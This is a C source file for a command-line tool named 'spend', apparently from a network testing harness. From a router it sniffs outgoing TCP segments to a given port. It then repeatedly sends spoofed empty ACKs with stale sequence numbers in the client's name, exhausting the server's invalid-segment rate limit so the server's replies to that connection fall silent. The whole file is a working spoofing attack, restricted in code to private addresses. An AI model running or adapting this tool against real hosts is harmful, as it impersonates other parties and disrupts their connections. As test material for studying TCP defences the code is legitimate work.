// SPDX-License-Identifier: GPL-2.0-only
/*
 * spend - use up what a host has to say to old segments
 *
 *   spend -i IFACE -P PORT [-e MS]
 *       in a router: to each host beyond IFACE that is spoken to at PORT, every MS (50)
 *       an empty segment that it has had before, in the name of who speaks
 *
 * Linux answers one of them in 500 ms and connection (tcp_invalid_ratelimit): who else
 * asks something with an empty old segment meets silence. Private addresses only.
 */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "sniff.h"

#define TALKS	64

/* The latest segment of each connection, as it went out. */
static struct frame talks[TALKS];
static unsigned int talks_n;
static uint16_t port;

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static bool same_connection(const struct segment *a, const struct segment *b)
{
	return address_same(&a->from, &b->from) && address_same(&a->to, &b->to);
}

static void remember(const struct frame *frame)
{
	const struct segment *s = &frame->seg;
	unsigned int i;

	if (frame->way != LEAVES || s->to.port != port || s->flags & (TCP_SYN | TCP_RST) ||
	    !address_is_private(&s->to))
		return;
	for (i = 0; i < TALKS && i < talks_n; i++)
		if (same_connection(&talks[i].seg, s))
			break;
	if (i == talks_n || i == TALKS)
		i = talks_n++ % TALKS;
	talks[i] = *frame;
}

static void spend(int fd)
{
	for (unsigned int i = 0; i < TALKS && i < talks_n; i++) {
		struct segment s = talks[i].seg;

		s.seq--;
		s.flags = TCP_ACK;
		s.payload = (const uint8_t *)"";
		s.len = 0;
		if (sniff_send(fd, talks[i].mac, &s))
			perror("spend: send");
	}
}

static void usage(void)
{
	fputs("usage: spend -i IFACE -P PORT [-e MS]\n", stderr);
	exit(2);
}

int main(int argc, char **argv)
{
	const char *ifname = NULL;
	struct pollfd p = { .events = POLLIN };
	struct frame frame;
	long every = 50, next;
	int c;

	while ((c = getopt(argc, argv, "i:P:e:")) != -1) {
		switch (c) {
		case 'i':
			ifname = optarg;
			break;
		case 'P':
			port = (uint16_t)atoi(optarg);
			break;
		case 'e':
			every = atol(optarg);
			break;
		default:
			usage();
		}
	}
	if (optind != argc || !ifname || !port || every <= 0)
		usage();
	p.fd = sniff_open(ifname);
	if (p.fd < 0) {
		fprintf(stderr, "spend: %s: %s\n", ifname, strerror(errno));
		return 1;
	}
	puts("ready");
	fflush(stdout);
	for (next = now_ms() + every;; next += every) {
		long left;

		while ((left = next - now_ms()) > 0) {
			poll(&p, 1, (int)left);
			while (sniff_read(p.fd, &frame))
				remember(&frame);
		}
		spend(p.fd);
	}
}
